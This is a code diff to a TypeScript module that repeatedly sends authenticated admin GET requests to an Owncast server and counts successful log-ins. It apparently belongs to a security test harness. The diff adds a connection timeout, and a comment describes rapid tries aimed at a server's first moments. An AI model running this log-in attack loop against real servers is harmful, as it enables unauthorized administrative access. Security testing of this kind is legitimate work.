@@ -33,6 +33,9 @@ export interface RunningAttack {
   stop(): Promise<Attack>;
 }
 
+/** A connection that is accepted before a server is there may never be answered. */
+const patienceSeconds = 5;
+
 /** Tries are frequent while no server responds, so that they meet its first moments. Later each log-in costs Owncast 75 ms. */
 const pauseMs = (answered: boolean): number => (answered ? 1000 : 100);
 
@@ -45,7 +48,8 @@ export function startAttack({ web, rtmpPort }: AttackTargets): RunningAttack {
     const [scheme, host] = target.site === undefined ? ["http", "127.0.0.1"] : ["https", target.site];
     const origin = `${scheme}://${host}:${target.port}`;
     const lines = [`Host: ${host}:${target.port}`, `Authorization: ${authorization}`, `Origin: ${origin}`];
-    const { status } = await rawRequest(target, [`GET ${path} HTTP/1.1\r\n${lines.join("\r\n")}\r\n\r\n`]);
+    const request = `GET ${path} HTTP/1.1\r\n${lines.join("\r\n")}\r\n\r\n`;
+    const { status } = await rawRequest(target, [request], patienceSeconds);
     admin.answered += 1;
     if (status === 200) admin.won += 1;
   };
